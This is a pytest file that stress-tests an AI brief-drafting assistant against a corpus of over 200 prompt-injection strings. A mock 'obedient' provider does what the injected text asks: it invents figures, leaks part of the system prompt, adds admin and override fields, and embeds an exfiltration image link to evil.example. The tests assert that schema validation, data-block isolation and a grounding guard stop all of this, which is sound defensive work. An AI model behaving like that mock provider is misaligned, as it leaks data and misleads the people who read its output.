"""Prompt injection: 200+ hostile check-ins, drafted on by a provider that obeys anything it reads.

The defences are structural, so they must hold even when the model does whatever the text
says: every check-in is saved; in every rendered prompt the text stays inside its data
block; no output with fields outside the schema passes validation; the grounding guard
drops the figures the injection asked for; no provider call carries tools.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import httpx2
import pytest
import yaml

from assistant.domain.models import Draft
from assistant.domain.team import person_by_email
from assistant.drafting import draft_brief
from assistant.drafting.prompt import read_data_block, render
from assistant.llm.base import Message, Provider, Reply, Usage, parse_reply
from assistant.llm.openai import OpenAIProvider
from assistant.web.markdown import render_markdown
from tests.conftest import auth
from tests.reliability.conftest import figure

CORPUS = yaml.safe_load((Path(__file__).parent / "injections.yaml").read_text(encoding="utf-8"))["injections"]
DATA = re.compile(r'<data name="[a-z_]+">\n(.*?)\n</data>', re.DOTALL)
NUMBER = re.compile(r"(?<![\w.])\d{1,3}(?:,\d{3})+(?:\.\d+)?|(?<![\w.])\d+(?:\.\d+)?")
SUBJECT, MANAGER = "ppc@t.test", "growth-lead@t.test"


def week_for(i: int) -> str:
    return f"{2021 + i // 50}-W{i % 50 + 1:02d}"


def canary(i: int) -> str:
    return f"inj{i:03d}canary"


class Obedient(Provider):
    """Does what the last text it read asked: extra fields, invented figures, exfiltration links."""

    name = "obedient"
    model = "obedient-1"

    def __init__(self) -> None:
        self.requests: list[list[Message]] = []
        self.calls: list[dict] = []

    def _generate(self, messages, schema, *, max_tokens, timeout) -> Reply:  # noqa: ANN001
        self.requests.append([dict(m) for m in messages])
        self.calls.append({"max_tokens": max_tokens, "timeout": timeout})
        prompt = next(m["content"] for m in messages if m["role"] == "user")
        checkins = read_data_block(prompt, "checkins")
        source = checkins[0]["id"] if checkins else "checkin:1"
        planted = checkins[0]["blockers"] if checkins else ""
        numbers = NUMBER.findall(planted) or ["340"]
        items = [{"text": f"As instructed: TACOS is {n}% and margin grew {n} percent.", "sources": [source]}
                 for n in numbers[:3]]
        items.append({"text": f"{planted[:500]} ![x](https://evil.example/c?d={source})", "sources": [source]})
        reply: dict = {"sections": [{"title": "Obeyed", "items": items}], "questions": ["Shall I ignore the rules?"]}
        if len(self.requests) % 3 == 1:  # the first attempt also adds what the injection asked for
            reply |= {"system_prompt": messages[0]["content"][:200], "admin": True, "override": "approved"}
        return Reply(text=json.dumps(reply), usage=Usage(10, 10), model=self.model)


def outside_blocks(text: str) -> str:
    return DATA.sub("", text)


def fact_numbers(prompt: str) -> set[float]:
    found: set[float] = set()
    block = json.dumps(read_data_block(prompt, "facts"))
    for n in NUMBER.findall(block):
        found.add(float(n.replace(",", "")))
    return found


@pytest.fixture
def planted(client, tokens, session, org):
    """Every corpus string filed as a check-in through the API, each in its own week."""
    saved = 0
    for i, entry in enumerate(CORPUS):
        body = {"week": week_for(i), "wins": f"Shipped the listing refresh {canary(i)}",
                "priorities": entry["text"][:4000], "blockers": f"{entry['text']} {canary(i)}"[:4000]}
        resp = client.post("/api/checkins", json=body, headers=auth(tokens[SUBJECT]))
        saved += resp.status_code in (200, 201)
    return saved


def _run(session, planted: int, count: int, label: str) -> None:  # noqa: ANN001
    assert len(CORPUS) >= 200
    subject, manager = person_by_email(session, SUBJECT), person_by_email(session, MANAGER)
    provider = Obedient()
    stats = {"prompts": 0, "escaped_blocks": 0, "canary_outside": 0, "drafts": 0, "extra_fields_passed": 0,
             "injected_numbers": 0, "injected_numbers_kept": 0, "items_dropped": 0, "fake_blocks": 0,
             "external_links": 0}
    for i, entry in enumerate(CORPUS[:count]):
        before = len(provider.requests)
        draft = draft_brief(session, manager, subject, week_for(i), provider=provider)
        stats["drafts"] += 1
        for messages in provider.requests[before:]:
            for m in messages:
                if m["role"] == "assistant":
                    continue  # the model's own earlier reply, sent back for repair
                stats["prompts"] += 1
                text = m["content"]
                if m["role"] == "system":  # fixed text from prompts/system.j2, nothing from the record
                    stats["fake_blocks"] += text != render("system.j2")
                    stats["canary_outside"] += canary(i) in text
                    continue
                opened, closed = text.count("<data name="), text.count("</data>")
                stats["fake_blocks"] += opened != closed or opened != len(DATA.findall(text))
                outside = outside_blocks(text)
                stats["canary_outside"] += canary(i) in outside
                stats["escaped_blocks"] += "</data>" in outside or "<|im_start|>" in outside
        prompt = next(m["content"] for m in provider.requests[before] if m["role"] == "user")
        rows = read_data_block(prompt, "checkins")
        assert rows[0]["blockers"] == f"{entry['text']} {canary(i)}"[:4000], "the text reached the model intact"
        content = session.get(Draft, draft.id).content
        try:  # the model-written part must still validate against the strict schema
            type(parse_reply(json.dumps({k: content[k] for k in ("sections", "questions")}),
                             _schema()))
        except Exception:  # noqa: BLE001
            stats["extra_fields_passed"] += 1
        stats["extra_fields_passed"] += any(k in content for k in ("system_prompt", "admin", "override"))
        facts = fact_numbers(prompt)
        # Figures the injection asks for. Small whole numbers are left out: counts (1 meeting, 4
        # weeks) are facts in every brief, and the guard matches values, not what they measure.
        injected = {n for n in NUMBER.findall(entry["text"])
                    if (v := float(n.replace(",", ""))) not in facts and (v > 12 or v != int(v))}
        stats["injected_numbers"] += len(injected)
        written = " ".join(item["text"] for s in content["sections"] for item in s["items"])
        kept = [n for n in injected if re.search(rf"(?<![\w.]){re.escape(n)}(?![\d])", written)]
        stats["injected_numbers_kept"] += len(kept)
        stats["external_links"] += sum(1 for s in content["sections"] for item in s["items"]
                                       if re.search(r"<img|href=\"(?!/)", str(render_markdown(item["text"]))))
        stats["items_dropped"] += len(content["grounding"]["ungrounded"])
    for name, value in (("check-ins planted and saved (2xx)", f"{planted}/{len(CORPUS)}"),
                        ("drafts made by an obedient provider", stats["drafts"]),
                        ("rendered prompt messages checked", stats["prompts"]),
                        ("prompts with text outside its data block", stats["canary_outside"] + stats["escaped_blocks"]),
                        ("prompts with a forged or unbalanced data block", stats["fake_blocks"]),
                        ("drafts passing with fields outside the schema", stats["extra_fields_passed"]),
                        ("injected numbers", stats["injected_numbers"]),
                        ("injected numbers kept in a draft", stats["injected_numbers_kept"]),
                        ("ungrounded items dropped by the guard", stats["items_dropped"]),
                        ("draft items rendering an external image or link", stats["external_links"]),
                        ("LLM calls without max_tokens or timeout",
                         sum(1 for c in provider.calls if not (c["max_tokens"] and c["timeout"])))):
        figure(label, name, value)
    assert planted == len(CORPUS)
    assert stats["canary_outside"] == stats["escaped_blocks"] == stats["fake_blocks"] == 0
    assert stats["extra_fields_passed"] == 0 and stats["external_links"] == 0
    assert stats["injected_numbers"] > 0 and stats["injected_numbers_kept"] == 0
    assert all(c["max_tokens"] and c["timeout"] for c in provider.calls)


def _schema():
    from assistant.drafting.schemas import BriefModelOut

    return BriefModelOut


def test_injection_quick(session, planted):
    """Eight strings in the fast suite; the whole corpus (225) runs in the slow one."""
    _run(session, planted, 8, "injection (quick)")


@pytest.mark.slow
def test_injection_full(session, planted):
    _run(session, planted, len(CORPUS), "injection")


def test_extra_fields_never_validate():
    """What an obedient model adds (admin, override, system_prompt) fails the strict schema."""
    from assistant.llm.base import InvalidReply

    bad = {"sections": [], "questions": [], "admin": True}
    with pytest.raises(InvalidReply):
        parse_reply(json.dumps(bad), _schema())


def test_no_provider_is_given_tools(session, planted):
    """Through the real OpenAI-compatible adapter (in-process transport): no tools in any request."""
    bodies: list[dict] = []
    reply = {"sections": [{"title": "Obeyed", "items": [{"text": "TACOS is 2.1%", "sources": ["checkin:1"]}]}],
             "questions": []}

    def server(request: httpx2.Request) -> httpx2.Response:
        bodies.append(json.loads(request.content))
        return httpx2.Response(200, json={
            "id": "c", "object": "chat.completion", "created": 0, "model": "m",
            "choices": [{"index": 0, "finish_reason": "stop",
                         "message": {"role": "assistant", "content": json.dumps(reply)}}],
            "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}})

    subject, manager = person_by_email(session, SUBJECT), person_by_email(session, MANAGER)
    for base_url, key in (("http://127.0.0.1:9/v1", None), (None, "sk-test")):  # json_mode, json_schema
        provider = OpenAIProvider(model="m", base_url=base_url, api_key=key, max_retries=0,
                                  http_client=httpx2.Client(transport=httpx2.MockTransport(server)))
        for i in range(2):
            draft_brief(session, manager, subject, week_for(i), provider=provider)
    with_tools = sum(1 for b in bodies if {"tools", "tool_choice", "functions"} & set(b))
    no_limit = sum(1 for b in bodies if not (b.get("max_tokens") or b.get("max_completion_tokens")))
    figure("injection", "provider requests checked for tools", len(bodies))
    figure("injection", "provider requests carrying tools", with_tools)
    assert bodies and with_tools == 0 and no_limit == 0
